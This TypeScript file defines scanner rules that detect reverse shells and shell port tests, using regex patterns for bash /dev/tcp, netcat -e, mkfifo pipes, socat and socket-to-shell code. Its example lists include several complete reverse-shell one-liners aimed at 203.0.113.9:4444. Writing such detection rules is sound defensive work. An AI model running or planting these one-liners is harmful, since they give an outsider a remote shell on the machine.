// Rules for a shell that is opened to another machine, apart from those who only ask whether a port answers.
import { cue, type Rule } from './rule.ts';
import { COMMAND, LINE } from './words.ts';

export const SHELL_RULES: readonly Rule[] = [
  {
    id: 'reverse-shell',
    severity: 'CRITICAL',
    where: 'any',
    view: 'text',
    shapes: [
      { cues: [cue('\\b(?:ba|z|k|da)?sh\\s{1,4}-i\\b'), cue('/dev/(?:tcp|udp)/')], within: 60, apart: LINE },
      {
        cues: [
          cue('/dev/(?:tcp|udp)/[\\w.{}$-]{1,80}/[{}$\\w]{1,20}'),
          cue(
            '\\b0[<>]&[1\\d]',
            '(?:ba|z)?sh\\b[^\\n]{0,20}[<>]{1,2}&\\s?[3-9]\\b',
            '<&\\s?[3-9]\\s{0,4}\\|\\s{0,4}(?:ba|z)?sh\\b',
          ),
        ],
        within: 160,
      },
      { cues: [cue('<&\\s?[3-9]'), cue('\\|\\s{0,4}while\\s{1,4}read'), cue('>&\\s?[3-9]')], within: 120 },
      {
        cues: [
          cue('\\b(?:nc|ncat|netcat)\\s'),
          cue('\\s-[a-z]{0,6}[ec]\\s{1,4}["\']?(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh\\b', '\\s--(?:sh-)?exec\\s'),
        ],
        within: 80,
        apart: COMMAND,
      },
      { cues: [cue('\\bbash\\s{1,4}-i\\s{0,4}[>0-9]{0,2}&')] },
      { cues: [cue('\\bmkfifo\\s'), cue('\\|\\s{0,4}(?:nc|ncat|netcat|openssl\\s{1,4}s_client)\\b')], within: 160 },
      { cues: [cue('\\bsocat\\s'), cue('\\bexec:["\']?(?:/bin/)?(?:ba)?sh\\b', 'pty,')], within: 160, apart: LINE },
      {
        cues: [
          cue('socket\\.socket\\(', '\\.connect\\(\\('),
          cue('os\\.dup2\\(', 'pty\\.spawn', 'subprocess\\.(?:call|run|Popen)\\(\\[?["\'](?:/bin/)?(?:ba)?sh["\']'),
        ],
        within: 400,
      },
      {
        cues: [
          cue(
            'net\\.connect\\(',
            'new\\s{1,4}net\\.Socket',
            'TCPSocket\\.(?:new|open)',
            'IO::Socket::INET',
            'New-Object\\s{1,4}(?:System\\.)?Net\\.Sockets\\.TCPClient',
          ),
          cue('\\bspawn\\(["\'](?:/bin/)?(?:ba)?sh["\']', 'exec\\s["\']?(?:/bin/)?sh\\s-i', '\\biex\\b', 'cmd\\.exe'),
        ],
        within: 600,
      },
    ],
    says: { en: 'opens a shell to another machine', zh: '向其他主机打开 shell' },
    examples: {
      bad: [
        'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
        'exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done',
        'nc 203.0.113.9 4444 -e /bin/sh',
        'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
        "s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0)",
      ],
      fine: [
        'nc -z localhost 5432',
        'timeout 1 bash -c "</dev/tcp/$host/$port" && echo open',
        'exec 3<>/dev/tcp/$HOST/$PORT && echo ready; exec 3<&-',
        '(echo > /dev/tcp/db/5432) >/dev/null 2>&1',
        'until nc -zv db 5432; do sleep 1; done',
      ],
    },
  },
  {
    id: 'port-test',
    severity: 'LOW',
    where: 'any',
    view: 'text',
    shapes: [{ cues: [cue('/dev/(?:tcp|udp)/[\\w.$"\'{}-]{1,80}/[\\w{}$]')] }],
    says: { en: 'connects to a port from the shell', zh: '通过 shell 连接端口' },
    examples: { bad: ['bash -c "</dev/tcp/$host/$port"'], fine: ['ls /dev/tty'] },
  },
];
